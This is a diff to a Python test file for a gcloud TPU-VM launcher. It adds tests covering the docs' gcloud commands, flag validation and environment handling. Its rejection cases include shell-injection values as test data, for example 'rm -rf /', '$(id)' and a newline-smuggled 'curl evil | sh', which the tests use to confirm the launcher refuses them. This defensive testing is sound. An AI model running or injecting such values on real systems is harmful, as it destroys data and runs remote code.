@@ -210,6 +210,28 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
   assert all("rc=2" in v for _, v in results[-2:]), results[-2:]
 
 
+def _docs_gcloud_commands(path):
+  """The `gcloud ...` lines of a page's code blocks (continuations joined), as argv lists."""
+  text = path.read_text().replace("\\\n", " ")
+  blocks = re.findall(r"```(?:sh)?\n(.*?)```", text, flags=re.S)
+  lines = [line.strip() for block in blocks for line in block.splitlines()]
+  # `gcloud auth ...` changes local credentials and would not stop at "no account": left out.
+  return [shlex.split(line) for line in lines
+          if line.startswith("gcloud ") and not line.startswith("gcloud auth ")]
+
+
+@pytest.mark.slow
+def test_real_gcloud_parses_the_docs_set_up_commands(tmp_path):
+  commands = [argv for page in (DOCS, ROOT / "docs" / "gke.md")
+              for argv in _docs_gcloud_commands(page)]
+  assert len(commands) >= 12
+  assert any("--scopes=cloud-platform" in argv for argv in commands)
+  with concurrent.futures.ThreadPoolExecutor(4) as pool:
+    verdicts = list(pool.map(lambda argv: _gcloud_verdict(argv, tmp_path), commands))
+  failed = [(shlex.join(argv)[:160], v) for argv, v in zip(commands, verdicts) if v]
+  assert not failed, failed
+
+
 @pytest.mark.parametrize("argv", [
     ["delete", "--name=demo;rm -rf /", "--zone=us-central2-b", "--project=p-123456"],
     ["delete", "--name=$(id)", "--zone=us-central2-b", "--project=p-123456"],
@@ -231,6 +253,10 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
     ["create", *_V4, "--accelerator-type=v4-8", "--valid-until-duration=6h"],  # Not queued.
     ["create", *_V4, "--accelerator-type=v4-8", "--max-runtime=6h"],
     ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--spot", "--flex-start"],
+    # gcloud documents --max-run-duration for flex-start only; flex-start needs a duration.
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--max-runtime=6h"],
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start"],
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start", "--max-runtime=8d"],
     ["run", *_V4, "--image=img;id", "--workdir=gs://b-1/r"],
     ["run", *_V4, "--image=img\n", "--workdir=gs://b-1/r"],
     ["run", *_V4, "--image=$(id)", "--workdir=gs://b-1/r"],
@@ -239,6 +265,9 @@ def test_real_gcloud_parses_every_command(capsys, tmp_path):
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a\nb"],
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\nrm -rf /"],
     ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--workdir=gs://other/r"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\tb"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--config=x"],  # trainer flags go after --
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/it's"],  # the one gs:// rule of launch/common.py
     ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
     ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
     ["logs", *_V4, "--workers=0"],
@@ -265,7 +294,7 @@ elif name == "gcloud" and sys.argv[1:3] == ["auth", "print-access-token"]:
 elif name == "curl":
   print("3")
 elif sys.argv[1:2] == ["run"] or sys.argv[1:3] == ["-m", "trainer"]:
-  print("training")
+  print("training", "JAX_PLATFORMS=" + str(os.environ.get("JAX_PLATFORMS")))
   time.sleep(float(os.environ.get("STUB_SLEEP", "0")))
   sys.exit(42)
 """
@@ -324,14 +353,17 @@ def test_run_script_passes_each_value_as_one_argument(source, remote):
   expected = [*NASTY_ARGS, f"--workdir={NASTY_WORKDIR}"]
   if source == "image":
     assert trainer == [["docker", "run", "--name=jaxjob-demo", "--privileged", "--net=host",
-                        "--init", kwargs["image"], *expected]]
+                        "--init", "--env=JAX_PLATFORMS=tpu", kwargs["image"], *expected]]
   else:
     assert trainer == [["python", "-m", "trainer", *expected]]
     install = [c for c in calls() if c[:4] == ["python3", "-m", "uv", "pip"]]
     spec = kwargs["pip_spec"] if source == "pip_git" else (
         f"jaxjob[tpu] @ file://{tmp}/jaxjob-demo-pkg/jaxjob-0.1.0-py3-none-any.whl")
     assert install[0][-1] == spec
-  assert "training" in (tmp / "jaxjob-demo.log").read_text()
+  log = (tmp / "jaxjob-demo.log").read_text()
+  assert "training" in log
+  if source != "image":  # docker gets --env; the venv's python gets the variable itself
+    assert "JAX_PLATFORMS=tpu" in log
   assert not list(tmp.rglob("pwned"))
 
 
@@ -402,6 +434,23 @@ def test_owner_comes_from_user(capsys):
   code, out, _ = cli(["create", "--dry-run", *_V4, "--accelerator-type=v4-8"], capsys,
                      user="Bob.Smith")
   assert code == 0 and "--labels=jaxjob_run=demo-v4,jaxjob_owner=bob-smith" in out
+
+
+def test_venv_python_is_the_projects(capsys):
+  import tomllib  # pylint: disable=g-import-not-at-top
+  requires = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["requires-python"]
+  assert requires == f">={tpu_vm._PYTHON}"  # pylint: disable=protected-access
+  _, out, _ = cli(with_dry_run(INVOCATIONS["run_v4_pip_git"]), capsys)
+  assert f"--python {tpu_vm._PYTHON}" in out  # pylint: disable=protected-access
+  assert f"Python {tpu_vm._PYTHON}" in DOCS.read_text()  # pylint: disable=protected-access
+
+
+def test_docs_prepare_ssh_and_the_image_pull():
+  text = DOCS.read_text()
+  # --worker=all opens one SSH session per worker: the key must be in the agent first.
+  assert text.index("ssh-add ~/.ssh/google_compute_engine") < text.index(
+      "python -m launch tpu-vm run")
+  assert "roles/artifactregistry.reader" in text and "roles/storage.objectUser" in text
 
 
 def test_walkthrough_uses_only_tested_invocations():
